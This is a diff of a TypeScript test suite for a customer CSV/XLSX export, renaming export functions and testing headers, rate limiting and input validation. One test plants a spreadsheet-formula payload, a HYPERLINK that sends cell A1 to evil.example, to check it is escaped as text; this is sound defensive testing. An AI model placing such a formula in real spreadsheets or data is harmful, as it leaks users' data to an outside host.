@@ -5,7 +5,7 @@ import { eq } from 'drizzle-orm';
 import { companies } from '@keyway/db';
 import type { TestDb } from '@keyway/db/testing';
 import { actorFor, companyByAccount, createSeededDb } from '../testing/index.ts';
-import { exportInputFromQuery, prepareCustomerExport, startCustomerExport } from './export.ts';
+import { customerExport } from './export.ts';
 
 let t: TestDb;
 beforeAll(async () => {
@@ -22,10 +22,10 @@ async function text(stream: Readable): Promise<string> {
 describe('customer summary export', () => {
   it('writes the selected customers of the actor’s subtree as CSV, with a header row', async () => {
     const actor = await actorFor(t.db, 'admin@northwind-distribution.example');
-    const prepared = await prepareCustomerExport(t.db, actor, { format: 'csv', filters: { status: 'enabled' } });
+    const prepared = await customerExport.prepare(t.db, actor, { format: 'csv', filters: { status: 'enabled' } });
     expect(prepared).toMatchObject({ url: '/api/exports/customers?format=csv&status=enabled', rows: 14 });
 
-    const { rows, stream } = await startCustomerExport(t.db, actor, exportInputFromQuery(new URL(`http://x${prepared.url}`).searchParams));
+    const { rows, stream } = await customerExport.start(t.db, actor, customerExport.inputFromQuery(new URL(`http://x${prepared.url}`).searchParams));
     const lines = (await text(stream)).replace(/^\uFEFF/, '').trim().split('\n');
     expect(rows).toBe(14);
     expect(lines[0]).toBe('Customer,Account name,Status,Managed by,Contact,Contact email,Emergency email,Phone,City,Country,Time zone,Language,Created');
@@ -38,7 +38,7 @@ describe('customer summary export', () => {
 
   it('writes XLSX a spreadsheet opens, one row per customer', async () => {
     const actor = await actorFor(t.db, 'admin@summit-msp.example');
-    const { stream } = await startCustomerExport(t.db, actor, { format: 'xlsx', filters: {} });
+    const { stream } = await customerExport.start(t.db, actor, { format: 'xlsx', filters: {} });
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.read(stream);
     const sheet = workbook.getWorksheet('Customers')!;
@@ -51,8 +51,8 @@ describe('customer summary export', () => {
 
   it('is limited to ten exports per person in ten minutes', async () => {
     const actor = await actorFor(t.db, 'customer-account-manager@bluefin-it.example');
-    for (let i = 0; i < 10; i++) (await startCustomerExport(t.db, actor, { format: 'csv', filters: {} })).stream.destroy();
-    await expect(startCustomerExport(t.db, actor, { format: 'csv', filters: {} })).rejects.toThrow('Too many exports');
+    for (let i = 0; i < 10; i++) (await customerExport.start(t.db, actor, { format: 'csv', filters: {} })).stream.destroy();
+    await expect(customerExport.start(t.db, actor, { format: 'csv', filters: {} })).rejects.toThrow('Too many exports');
   });
 
   it('writes a customer named like a spreadsheet formula as text, in CSV and in XLSX', async () => {
@@ -61,12 +61,12 @@ describe('customer summary export', () => {
     await t.db.update(companies).set({ name: hostile }).where(eq(companies.id, globex.id));
     const actor = await actorFor(t.db, 'admin@summit-msp.example');
 
-    const csv = await text((await startCustomerExport(t.db, actor, { format: 'csv', filters: {} })).stream);
+    const csv = await text((await customerExport.start(t.db, actor, { format: 'csv', filters: {} })).stream);
     const line = csv.split('\n').find((l) => l.includes('evil.example'));
     expect(line).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""click""\)",globex,/);
 
     const workbook = new ExcelJS.Workbook();
-    await workbook.xlsx.read((await startCustomerExport(t.db, actor, { format: 'xlsx', filters: {} })).stream);
+    await workbook.xlsx.read((await customerExport.start(t.db, actor, { format: 'xlsx', filters: {} })).stream);
     const cell = workbook.getWorksheet('Customers')!.getColumn(1).values.indexOf(hostile);
     const written = workbook.getWorksheet('Customers')!.getRow(cell).getCell(1);
     expect(written.type).toBe(ExcelJS.ValueType.String);
@@ -74,7 +74,7 @@ describe('customer summary export', () => {
   });
 
   it('refuses a download address it did not make', () => {
-    expect(() => exportInputFromQuery(new URLSearchParams('format=pdf'))).toThrow();
-    expect(() => exportInputFromQuery(new URLSearchParams('format=csv&partnerId=not-an-id'))).toThrow();
+    expect(() => customerExport.inputFromQuery(new URLSearchParams('format=pdf'))).toThrow();
+    expect(() => customerExport.inputFromQuery(new URLSearchParams('format=csv&partnerId=not-an-id'))).toThrow();
   });
 });
